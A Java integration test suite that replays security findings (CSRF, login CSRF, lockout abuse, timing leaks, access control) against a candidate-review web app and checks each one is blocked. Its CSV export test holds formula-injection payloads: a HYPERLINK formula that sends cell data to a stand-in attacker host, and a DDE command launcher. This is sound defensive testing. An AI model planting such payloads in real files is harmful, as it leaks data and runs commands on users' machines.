package cn.shencha.base.security;

import static org.assertj.core.api.Assertions.assertThat;

import cn.shencha.exam.Candidate;
import cn.shencha.exam.CandidateRepository;
import cn.shencha.exam.ExamCategories;
import cn.shencha.exam.Verdict;
import cn.shencha.materials.TestImages;
import cn.shencha.review.SubmissionService;
import cn.shencha.support.TestClockConfig;
import cn.shencha.support.TestData;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Locale;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.camunda.bpm.engine.IdentityService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.identity.User;
import org.camunda.bpm.engine.task.Task;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.annotation.Import;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.transaction.support.TransactionTemplate;

/**
 * Issue 13's attacks, replayed over real HTTP against the running app, as a browser or a script would send them.
 * The app sits behind a "TLS proxy" here: 127.0.0.1 is trusted, so X-Forwarded-For gives each request the client
 * address the test chooses and X-Forwarded-Proto says https. API docs are switched off (API_DOCS_ENABLED=false).
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = {
        "spring.datasource.url=jdbc:h2:mem:shencha-websec;DB_CLOSE_DELAY=-1;DB_CLOSE_ON_EXIT=FALSE",
        "server.tomcat.remoteip.internal-proxies=127.0.0.1",
        "shencha.security.throttle.source-failures=8",
        "springdoc.api-docs.enabled=false",
        "springdoc.swagger-ui.enabled=false"})
@ActiveProfiles("test")
@Import({TestClockConfig.class, TestData.class})
class WebSecurityAttackTests {

    static final String STAFF_PASSWORD = "Websec2026pw";
    static final String SITE_1201 = "ws1201";
    static final String SITE_1202 = "ws1202";
    static final String ADMIN = "wsadmin";
    private static final AtomicInteger ADDRESS = new AtomicInteger(1);

    @LocalServerPort int port;
    @Autowired TestData data;
    @Autowired IdentityService identityService;
    @Autowired TaskService taskService;
    @Autowired SubmissionService submissions;
    @Autowired CandidateRepository candidates;
    @Autowired TransactionTemplate tx;

    @BeforeEach
    void setUp() {
        data.resetDistricts();
        staff(SITE_1201, "site1201");
        staff(SITE_1202, "site1202");
        staff(ADMIN, StaffScope.ADMIN_GROUP);
    }

    // Finding 3: CSRF on /api/v1 with the browser session, and login CSRF ////////////////////////////////////

    @Test
    void aForeignPageCannotUploadOrSubmitWithTheCandidatesSession() throws Exception {
        Candidate candidate = data.candidate("1201");
        data.completeRequiredMaterials(candidate);
        Client browser = new Client(newAddress()).signIn(candidate.getRegistrationNo(), TestData.PASSWORD);

        // What the page on another port sends: the cookie rides along, no token.
        assertThat(browser.upload("/api/v1/me/materials/DIPLOMA/images", null).statusCode()).isEqualTo(403);
        HttpResponse<String> submit = browser.send("POST", "/api/v1/me/submission", null);
        assertThat(submit.statusCode()).isEqualTo(403);
        assertThat(submit.body()).contains("\"code\":\"FORBIDDEN\"");
        // A token in a form field (all a plain HTML form can send) does not count either.
        browser.get("/api/v1/me");
        String token = browser.cookie(SecurityConfig.API_CSRF_COOKIE);
        assertThat(token).as("the API's CSRF cookie comes with the first answer").isNotNull();
        assertThat(browser.send("POST", "/api/v1/me/submission?_csrf=" + token, null).statusCode()).isEqualTo(403);
        assertThat(data.state(data.reload(candidate)).submittedAt()).isNull();

        // The app's own callers send the token in the header: that works, with the session.
        assertThat(browser.upload("/api/v1/me/materials/DIPLOMA/images", token).statusCode()).isEqualTo(201);
        // HTTP Basic needs no token.
        Client script = new Client(newAddress()).basic(candidate.getRegistrationNo(), TestData.PASSWORD);
        assertThat(script.upload("/api/v1/me/materials/DIPLOMA/images", null).statusCode()).isEqualTo(201);
    }

    @Test
    void aForeignPageCannotSignTheVisitorInAsSomeoneElse() throws Exception {
        Candidate attacker = data.candidate("1201");
        // The login form posted from another page: no CSRF token of the victim's session.
        Client victim = new Client(newAddress());
        HttpResponse<String> login = victim.form("/login", "username=" + attacker.getRegistrationNo() + "&password="
                + TestData.PASSWORD);
        assertThat(login.headers().firstValue("Location").orElse("")).contains("/login?error");
        assertThat(victim.get("/api/v1/me").statusCode()).isEqualTo(401);

        // Activation signs in too: without the token it is refused, the account stays as it was.
        Candidate fresh = unactivated();
        String body = "{\"registrationNo\":\"" + fresh.getRegistrationNo() + "\",\"idNumber\":\"" + fresh.getIdNumber()
                + "\",\"password\":\"Fresh2026pw\"}";
        assertThat(victim.json("POST", "/api/v1/activation", body, null).statusCode()).isEqualTo(403);
        assertThat(data.reload(fresh).isActivated()).isFalse();
        // The activation page's own client takes the token first (GET /api/v1/csrf), then it works.
        Client client = new Client(newAddress());
        String token = client.get("/api/v1/csrf").body().replaceAll(".*\"token\":\"([^\"]+)\".*", "$1");
        assertThat(client.json("POST", "/api/v1/activation", body, token).statusCode()).isEqualTo(201);
        assertThat(client.get("/api/v1/me").statusCode()).isEqualTo(200);
    }

    // Finding 4: formula injection in the CSV export ////////////////////////////////////////////////////////

    @Test
    void theVerdictExportCarriesNoFormula() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&C2,\"click\")";
        tx.executeWithoutResult(s -> {
            Candidate c = candidates.save(new Candidate(TestData.SEASON, TestData.uniqueRegistrationNo("1201"), formula,
                    TestData.validIdNumber(), null, ExamCategories.CLINICAL, "12", "1201", data.clock().instant()));
            data.openCase(c, null);
            data.verdict(c, Verdict.REJECTED, "@SUM(1+1)*cmd|' /C calc'!A0", false);
            Candidate tab = candidates.save(new Candidate(TestData.SEASON, TestData.uniqueRegistrationNo("1201"), "\t-2+3",
                    TestData.validIdNumber(), null, ExamCategories.CLINICAL, "12", "1201", data.clock().instant()));
            data.openCase(tab, null);
            data.verdict(tab, Verdict.APPROVED, "+1 通过", false);
        });
        for (String encoding : List.of("UTF-8", "GBK")) {
            HttpResponse<byte[]> csv = new Client(newAddress()).basic(ADMIN, STAFF_PASSWORD)
                    .bytes("/api/v1/admin/districts/12/verdicts.csv?encoding=" + encoding);
            assertThat(csv.statusCode()).isEqualTo(200);
            String text = new String(csv.body(), encoding.equals("GBK") ? "GB18030" : "UTF-8");
            List<String> cells = new ArrayList<>();
            for (String line : text.split("\r\n")) {
                cells.addAll(Arrays.asList(line.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)")));
            }
            assertThat(cells).as(encoding).noneMatch(cell -> cell.replaceFirst("^\uFEFF", "").replaceFirst("^\"", "")
                    .matches("(?s)^[=+\\-@\t\r].*"));
            assertThat(text).contains("'=HYPERLINK", "'@SUM(1+1)", "'\t-2+3", "'+1 通过");
        }
    }

    // Finding 5: anyone could lock anyone out ///////////////////////////////////////////////////////////////

    @Test
    void failuresFromOneAddressDoNotLockTheAccountForAnyoneElse() throws Exception {
        Candidate victim = data.candidate("1201");
        String attacker = newAddress();
        for (int i = 0; i < 5; i++) {
            assertThat(new Client(attacker).basic(victim.getRegistrationNo(), "Wrong" + i + "guess").get("/api/v1/me")
                    .statusCode()).isEqualTo(401);
        }
        // The attacker's address is slowed down, even with the right password...
        assertThat(new Client(attacker).basic(victim.getRegistrationNo(), TestData.PASSWORD).get("/api/v1/me")
                .statusCode()).isEqualTo(429);
        // ...but the candidate, from their own address, still gets in: by HTTP Basic and on the login page.
        assertThat(new Client(newAddress()).basic(victim.getRegistrationNo(), TestData.PASSWORD).get("/api/v1/me")
                .statusCode()).isEqualTo(200);
        new Client(newAddress()).signIn(victim.getRegistrationNo(), TestData.PASSWORD);
        // The same rule on the login page: the attacker's address is refused there too.
        Client page = new Client(attacker);
        assertThat(page.loginAttempt(victim.getRegistrationNo(), TestData.PASSWORD)).contains("/login?error");
    }

    @Test
    void anAddressThatFailsOnManyAccountsIsSlowedForAllOfThem() throws Exception {
        String script = newAddress();
        for (int i = 0; i < 8; i++) {
            Candidate someone = data.candidate("1202");
            new Client(script).basic(someone.getRegistrationNo(), "Guess2026" + i).get("/api/v1/me");
        }
        Candidate next = data.candidate("1202");
        assertThat(new Client(script).basic(next.getRegistrationNo(), TestData.PASSWORD).get("/api/v1/me").statusCode())
                .isEqualTo(429);
        assertThat(new Client(newAddress()).basic(next.getRegistrationNo(), TestData.PASSWORD).get("/api/v1/me")
                .statusCode()).isEqualTo(200);
    }

    @Test
    void activationGuessesLockOnlyTheGuessersAddress() throws Exception {
        Candidate fresh = unactivated();
        String attacker = newAddress();
        for (int i = 0; i < 5; i++) {
            Client client = new Client(attacker);
            String token = client.csrfToken();
            assertThat(client.json("POST", "/api/v1/activation", activation(fresh, "110101199001011237"), token).statusCode())
                    .isEqualTo(400);
        }
        Client again = new Client(attacker);
        assertThat(again.json("POST", "/api/v1/activation", activation(fresh, fresh.getIdNumber()), again.csrfToken())
                .statusCode()).isEqualTo(429);
        Client owner = new Client(newAddress());
        assertThat(owner.json("POST", "/api/v1/activation", activation(fresh, fresh.getIdNumber()), owner.csrfToken())
                .statusCode()).isEqualTo(201);
    }

    // Finding 7 ////////////////////////////////////////////////////////////////////////////////////////////

    @Test
    void timingDoesNotTellWhichNumbersAreActivated() throws Exception {
        Candidate activated = data.candidate("1201");
        Candidate notActivated = unactivated();
        // warm-up: the first hash of a JVM is slower
        new Client(newAddress()).basic(activated.getRegistrationNo(), "Warmup2026x").get("/api/v1/me");
        long[] known = new long[5];
        long[] unknown = new long[5];
        for (int i = 0; i < 5; i++) {
            known[i] = timed(new Client(newAddress()).basic(activated.getRegistrationNo(), "Wrong2026x" + i));
            unknown[i] = timed(new Client(newAddress()).basic(notActivated.getRegistrationNo(), "Wrong2026x" + i));
        }
        Arrays.sort(known);
        Arrays.sort(unknown);
        // Before the fix: about 100 ms against 9 ms. Now both compare a BCrypt hash.
        assertThat(unknown[2] * 3).as("median ns, not activated %s vs activated %s", unknown[2], known[2])
                .isGreaterThan(known[2]);
    }

    @Test
    void behindTheTlsProxyCookiesAreSecureRedirectsHttpsAndHstsIsSent() throws Exception {
        Client browser = new Client(newAddress());
        HttpResponse<String> login = browser.get("/login");
        assertThat(login.headers().allValues("Set-Cookie")).anyMatch(c -> c.startsWith("JSESSIONID=") && c.contains("Secure"));
        assertThat(login.headers().firstValue("Strict-Transport-Security")).isPresent();
        HttpResponse<String> tasklist = browser.get("/camunda/app/tasklist/");
        assertThat(tasklist.statusCode()).isEqualTo(302);
        assertThat(tasklist.headers().firstValue("Location").orElseThrow()).startsWith("https://");
    }

    @Test
    void noPasswordBreaksTheRuleWhetherSetByAReviewerOrAtActivation() throws Exception {
        Client reviewer = new Client(newAddress()).basic(SITE_1201, STAFF_PASSWORD);
        for (String weak : List.of("1", "password1", "Demo2026")) {
            HttpResponse<String> change = reviewer.json("PUT", "/engine-rest/user/" + SITE_1201 + "/credentials",
                    "{\"password\":\"" + weak + "\",\"authenticatedUserPassword\":\"" + STAFF_PASSWORD + "\"}", null);
            // Camunda answers its ProcessEngineException with 500
            assertThat(change.statusCode()).as(weak + ": " + change.body()).isGreaterThanOrEqualTo(400);
            assertThat(change.body()).contains("Password does not match policy");
        }
        assertThat(identityService.checkPassword(SITE_1201, STAFF_PASSWORD)).isTrue();

        Candidate fresh = unactivated();
        Client client = new Client(newAddress());
        HttpResponse<String> activation = client.json("POST", "/api/v1/activation", "{\"registrationNo\":\""
                + fresh.getRegistrationNo() + "\",\"idNumber\":\"" + fresh.getIdNumber() + "\",\"password\":\"password1\"}",
                client.csrfToken());
        assertThat(activation.statusCode()).isEqualTo(400);
        assertThat(activation.body()).contains("WEAK_PASSWORD");
    }

    @Test
    void reviewersSeeACaseOnlyOnceItWasSubmitted() throws Exception {
        Candidate candidate = data.candidate("1201");
        data.completeRequiredMaterials(candidate);
        Long imageId = data.imageRow(candidate, data.type("12", "DEGREE"), 1).getId();
        Client reviewer = new Client(newAddress()).basic(SITE_1201, STAFF_PASSWORD);
        assertThat(reviewer.get("/api/v1/review/candidates/" + candidate.getRegistrationNo()).statusCode()).isEqualTo(404);
        assertThat(reviewer.get("/api/v1/review/images/" + imageId + "?size=thumb").statusCode()).isEqualTo(404);

        submissions.submit(candidate.getId(), Locale.SIMPLIFIED_CHINESE);
        assertThat(reviewer.get("/api/v1/review/candidates/" + candidate.getRegistrationNo()).statusCode()).isEqualTo(200);
    }

    @Test
    void candidateImagesAreNotKeptInTheBrowserCache() throws Exception {
        Candidate candidate = data.candidate("1201");
        Client client = new Client(newAddress()).basic(candidate.getRegistrationNo(), TestData.PASSWORD);
        HttpResponse<String> created = client.upload("/api/v1/me/materials/DIPLOMA/images", null);
        String location = created.headers().firstValue("Location").orElseThrow();
        HttpResponse<byte[]> image = client.bytes(location);
        assertThat(image.statusCode()).isEqualTo(200);
        assertThat(image.headers().firstValue("Cache-Control").orElse("")).contains("no-store").doesNotContain("max-age=3600");
    }

    @Test
    void refusalsOnTheEngineApiNameNoOtherCase() throws Exception {
        Candidate at1201 = data.candidate("1201");
        data.completeRequiredMaterials(at1201);
        submissions.submit(at1201.getId(), Locale.SIMPLIFIED_CHINESE);
        at1201 = data.reload(at1201);
        Task task = taskService.createTaskQuery().processInstanceId(data.state(at1201).processInstanceId()).singleResult();
        Client other = new Client(newAddress()).basic(SITE_1202, STAFF_PASSWORD);
        List<HttpResponse<String>> refusals = List.of(
                other.json("POST", "/engine-rest/task/" + task.getId() + "/claim", "{\"userId\":\"" + SITE_1202 + "\"}", null),
                other.get("/engine-rest/process-instance/" + data.state(at1201).processInstanceId() + "/variables"),
                other.json("PUT", "/engine-rest/process-instance/" + data.state(at1201).processInstanceId() + "/variables/x",
                        "{\"value\":1,\"type\":\"Integer\"}", null));
        for (HttpResponse<String> refusal : refusals) {
            assertThat(refusal.statusCode()).as(refusal.uri() + " " + refusal.body()).isEqualTo(403);
            assertThat(refusal.body()).as(refusal.uri().toString()).contains("\"code\":\"FORBIDDEN\"")
                    .doesNotContain(task.getId(), data.state(at1201).processInstanceId(), "permission");
            // One problem shape with the other refusals, plus the "message" Tasklist shows.
            assertThat(refusal.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
            assertThat(refusal.body()).contains("\"detail\":\"" + SecurityConfig.FORBIDDEN + "\"",
                    "\"message\":\"" + SecurityConfig.FORBIDDEN + "\"");
        }
        // Administrators keep Camunda's full answer.
        HttpResponse<String> admin = new Client(newAddress()).basic(ADMIN, STAFF_PASSWORD)
                .json("POST", "/engine-rest/task/" + task.getId() + "/claim", "{\"userId\":\"nobody-" + ADMIN + "\"}", null);
        assertThat(admin.statusCode()).isNotEqualTo(403);
    }

    @Test
    void engineCountsAndTheApiDescriptionAreNotForReviewers() throws Exception {
        Client reviewer = new Client(newAddress()).basic(SITE_1201, STAFF_PASSWORD);
        for (String path : List.of("/engine-rest/process-definition/statistics", "/engine-rest/metrics/activity-instance-start/sum",
                "/engine-rest/process-definition/key/material-review/statistics", "/engine-rest/history/process-instance/report?reportType=duration")) {
            assertThat(reviewer.get(path).statusCode()).as(path).isEqualTo(403);
        }
        Client admin = new Client(newAddress()).basic(ADMIN, STAFF_PASSWORD);
        assertThat(admin.get("/engine-rest/process-definition/statistics").statusCode()).isEqualTo(200);
        // Switched off by the setting (API_DOCS_ENABLED=false): not even staff get it.
        assertThat(admin.get("/v3/api-docs").body()).doesNotContain("\"openapi\"", "/api/v1/");
    }

    @Test
    void vaadinPagesHaveAContentSecurityPolicy() throws Exception {
        HttpResponse<String> login = new Client(newAddress()).get("/login");
        assertThat(login.headers().firstValue("Content-Security-Policy").orElse(""))
                .contains("default-src 'self'", "frame-ancestors 'none'", "object-src 'none'");
    }

    // helpers //////////////////////////////////////////////////////////////////////////////////////////////

    private Candidate unactivated() {
        return tx.execute(s -> candidates.save(new Candidate(TestData.SEASON, TestData.uniqueRegistrationNo("1201"), "未激活", TestData.validIdNumber(),
                null, ExamCategories.CLINICAL, "12", "1201", data.clock().instant())));
    }

    private static String activation(Candidate candidate, String idNumber) {
        return "{\"registrationNo\":\"" + candidate.getRegistrationNo() + "\",\"idNumber\":\"" + idNumber
                + "\",\"password\":\"Fresh2026pw\"}";
    }

    private static long timed(Client client) throws Exception {
        long start = System.nanoTime();
        assertThat(client.get("/api/v1/me").statusCode()).isEqualTo(401);
        return System.nanoTime() - start;
    }

    /** A documentation address (TEST-NET-3) per client: the throttle sees each test's own sources. */
    private static String newAddress() {
        int n = ADDRESS.getAndIncrement();
        return "203.0." + (113 + n / 250) % 256 + "." + (n % 250 + 1);
    }

    private void staff(String id, String group) {
        if (identityService.createUserQuery().userId(id).count() == 0) {
            User user = identityService.newUser(id);
            user.setFirstName(id);
            user.setLastName("");
            user.setPassword(STAFF_PASSWORD);
            identityService.saveUser(user);
            identityService.createMembership(id, group);
        }
    }

    /** One browser or script: its own cookies, its own client address (X-Forwarded-For from the trusted proxy). */
    private final class Client {

        private static final Pattern LOGIN_CSRF = Pattern.compile("name=\"_csrf\" content=\"([^\"]+)\"");

        private final String address;
        // By hand: java.net's CookieManager keeps Secure cookies off http, and TLS ends at the (pretended) proxy.
        private final Map<String, String> cookies = new LinkedHashMap<>();
        private final HttpClient http = HttpClient.newBuilder().followRedirects(HttpClient.Redirect.NEVER).build();
        private String basic;

        Client(String address) {
            this.address = address;
        }

        Client basic(String user, String password) {
            basic = "Basic " + Base64.getEncoder().encodeToString((user + ":" + password).getBytes(StandardCharsets.UTF_8));
            return this;
        }

        Client signIn(String username, String password) throws Exception {
            String location = loginAttempt(username, password);
            assertThat(location).as("sign-in of %s", username).doesNotContain("error");
            return this;
        }

        /** The login page, then its form with the page's CSRF token, as the browser sends it: where it leads. */
        String loginAttempt(String username, String password) throws Exception {
            Matcher token = LOGIN_CSRF.matcher(get("/login").body());
            assertThat(token.find()).isTrue();
            HttpResponse<String> response = form("/login", "username=" + enc(username) + "&password=" + enc(password)
                    + "&_csrf=" + enc(token.group(1)));
            assertThat(response.statusCode()).isEqualTo(302);
            return response.headers().firstValue("Location").orElse("");
        }

        String cookie(String name) {
            return cookies.get(name);
        }

        private <T> HttpResponse<T> exchange(HttpRequest.Builder request, HttpResponse.BodyHandler<T> body) throws Exception {
            if (!cookies.isEmpty()) {
                request.header("Cookie", cookies.entrySet().stream().map(e -> e.getKey() + "=" + e.getValue())
                        .collect(Collectors.joining("; ")));
            }
            HttpResponse<T> response = http.send(request.build(), body);
            for (String setCookie : response.headers().allValues("Set-Cookie")) {
                String[] pair = setCookie.split(";", 2)[0].split("=", 2);
                if (setCookie.contains("Max-Age=0") || pair[1].isEmpty()) {
                    cookies.remove(pair[0]);
                } else {
                    cookies.put(pair[0], pair[1]);
                }
            }
            return response;
        }

        String csrfToken() throws Exception {
            get("/api/v1/csrf");
            return cookie(SecurityConfig.API_CSRF_COOKIE);
        }

        HttpResponse<String> get(String path) throws Exception {
            return exchange(request(path).GET(), HttpResponse.BodyHandlers.ofString());
        }

        HttpResponse<byte[]> bytes(String path) throws Exception {
            return exchange(request(path).setHeader("Accept", "*/*").GET(), HttpResponse.BodyHandlers.ofByteArray());
        }

        HttpResponse<String> send(String method, String path, String csrf) throws Exception {
            HttpRequest.Builder builder = request(path).method(method, HttpRequest.BodyPublishers.noBody());
            if (csrf != null) {
                builder.header(SecurityConfig.API_CSRF_HEADER, csrf);
            }
            return exchange(builder, HttpResponse.BodyHandlers.ofString());
        }

        HttpResponse<String> json(String method, String path, String body, String csrf) throws Exception {
            HttpRequest.Builder builder = request(path).header("Content-Type", "application/json")
                    .method(method, HttpRequest.BodyPublishers.ofString(body));
            if (csrf != null) {
                builder.header(SecurityConfig.API_CSRF_HEADER, csrf);
            }
            return exchange(builder, HttpResponse.BodyHandlers.ofString());
        }

        HttpResponse<String> form(String path, String body) throws Exception {
            return exchange(request(path).header("Content-Type", "application/x-www-form-urlencoded")
                    .POST(HttpRequest.BodyPublishers.ofString(body)), HttpResponse.BodyHandlers.ofString());
        }

        HttpResponse<String> upload(String path, String csrf) throws Exception {
            String boundary = "websec" + System.nanoTime();
            ByteArrayOutputStream body = new ByteArrayOutputStream();
            body.writeBytes(("--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"d.jpg\"\r\n"
                    + "Content-Type: image/jpeg\r\n\r\n").getBytes(StandardCharsets.UTF_8));
            body.writeBytes(TestImages.jpeg(TestImages.document(800, 600, System.nanoTime(), 0), 0.8f));
            body.writeBytes(("\r\n--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
            HttpRequest.Builder builder = request(path).header("Content-Type", "multipart/form-data; boundary=" + boundary)
                    .POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray()));
            if (csrf != null) {
                builder.header(SecurityConfig.API_CSRF_HEADER, csrf);
            }
            return exchange(builder, HttpResponse.BodyHandlers.ofString());
        }

        private HttpRequest.Builder request(String path) {
            HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + path))
                    .header("X-Forwarded-For", address)
                    .header("X-Forwarded-Proto", "https")
                    .header("Accept", "application/json, text/html");
            if (basic != null) {
                builder.header("Authorization", basic);
            }
            return builder;
        }

        private static String enc(String value) {
            return URLEncoder.encode(value, StandardCharsets.UTF_8);
        }
    }
}
